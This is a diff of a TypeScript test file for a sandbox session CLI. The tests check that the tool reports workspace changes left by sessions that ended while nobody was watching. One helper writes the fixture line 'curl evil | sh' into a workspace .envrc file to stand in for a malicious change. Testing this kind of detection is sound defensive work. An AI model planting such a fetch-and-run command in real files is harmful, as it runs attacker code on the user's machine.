@@ -8,7 +8,10 @@ import { expect, test } from 'vitest'
 import { askAboutKept } from '../../src/cli/ask-about-kept.js'
 import type { PreparedSession } from '../../src/cli/attach.js'
 import { rejoin, runKept, startDetached } from '../../src/cli/kept-run.js'
-import { DiagnosticError } from '../../src/model/diagnostic.js'
+import { lookAndKeep } from '../../src/cli/kept-before.js'
+import { noteUnseenEnds, tellUnseenEnds } from '../../src/cli/unseen-ends.js'
+import { newSessionId } from '../../src/engine/kept-session.js'
+import { DiagnosticError, fail } from '../../src/model/diagnostic.js'
 import type { ResolvedSession } from '../../src/model/desired.js'
 import type { Engine } from '../../src/model/engine.js'
 import type { OpenSession } from '../../src/model/risks.js'
@@ -17,6 +20,7 @@ import type { ContainerSpec } from '../../src/model/spec.js'
 import { claude, machine } from '../resolve/fixture.js'
 import { person } from '../support/approving.js'
 import { containerSpec } from '../support/examples.js'
+import { liveContainer } from '../ui/situations.js'
 
 type Inside = {
   /** What is said of the session after it was shown; by whoever holds it. */
@@ -162,6 +166,67 @@ test('what it changed since it began is told to whoever meets its end', async ()
   await rejoin(invocation, place, { agent, host, containerSpec: spec, session })
   expect(heard()).toMatch(/\.envrc/)
   expect(await readdir(kept)).toEqual([])
+})
+
+/** One that began by itself long ago, and what it left; with what the sandbox says of it by now. */
+async function unseen(states: (id: string) => string) {
+  const ids: string[] = []
+  const here = await meeting({ after: () => ids.map(states).join('') })
+  const { host, containerSpec: spec } = here.prepared
+  for (const at of [1_700_000_000_000, 1_700_000_100_000]) {
+    const sessionId = newSessionId(at)
+    ids.push(sessionId)
+    await lookAndKeep(here.invocation, host, spec, { sandboxId: 'web-123456', sessionId })
+  }
+  await writeFile(join(spec.workspace.path, '.envrc'), 'curl evil | sh\n')
+  const container = { id: 'c1', state: 'running' } as const
+  const tellNow = async (quiet = false): Promise<string> => {
+    const { invocation, place } = here
+    const asked = quiet ? { ...invocation, options: { ...invocation.options, quiet } } : invocation
+    await tellUnseenEnds(asked, place.engine, host, { sandboxId: 'web-123456', spec, container })
+    return here.heard()
+  }
+  return { ...here, ids, spec, tellNow, kept: () => readdir(join(host.stateFolder, 'sessions', 'web-123456')) }
+}
+
+const stateLine = (id: string, state: string): string => line(state, '0').replace('65a0b1c2d3', id)
+
+test.each(['ended', 'lost', 'unknown'])(
+  'what one that ended when nobody looked changed is told once: %s',
+  async (state) => {
+    const { ids, tellNow, kept } = await unseen((id) => (state === 'unknown' ? '' : stateLine(id, state)))
+    expect(await tellNow(true)).toBe('')
+    const first = await tellNow()
+    expect(first).toContain(`since session ${ids[0] ?? ''} and 1 more began, which ended when nobody looked`)
+    expect(first).toMatch(/\.envrc/)
+    expect(await kept()).toEqual([])
+    expect(await tellNow()).toBe(first)
+  },
+)
+
+test('of one that runs nothing is told, and of a sandbox that does not say it stays to be told', async () => {
+  const goesOn = await unseen((id) => stateLine(id, 'running'))
+  expect(await goesOn.tellNow()).toBe('')
+  expect(await goesOn.kept()).toHaveLength(2)
+  const silent = await unseen(() => fail('engine/command-timeout', 'A command in the sandbox does not end', {}))
+  expect(await silent.tellNow()).toMatch(/\.envrc/)
+  expect(await silent.kept()).toHaveLength(2)
+})
+
+test('the list says where there is something to be told, and asks nobody for it', async () => {
+  const { invocation, prepared, ids, heard, spec } = await unseen(() => '')
+  const { host } = prepared
+  await lookAndKeep(invocation, host, spec, { sandboxId: 'web-123456', sessionId: newSessionId() })
+  const sandbox = { ...liveContainer.sandbox, id: 'web-123456' }
+  const listed = { ...liveContainer, id: 'c1', sandbox, spec }
+  const session = { ...running, id: ids[0] ?? '' }
+  await noteUnseenEnds(invocation, host, [listed], new Map([['c1', [session, { ...session, id: ids[1] ?? '' }]]]))
+  expect(heard()).toBe('')
+  await noteUnseenEnds(invocation, host, [listed], new Map([['c1', [session]]]))
+  expect(heard()).toBe(
+    `note: Session ${ids[1] ?? ''} of web-123456 ended when nobody looked. ` +
+      'What changed here that this machine would run: sbx logs web-123456\n',
+  )
 })
 
 test.each<readonly [string, Partial<ContainerSpec['workspace']>]>([
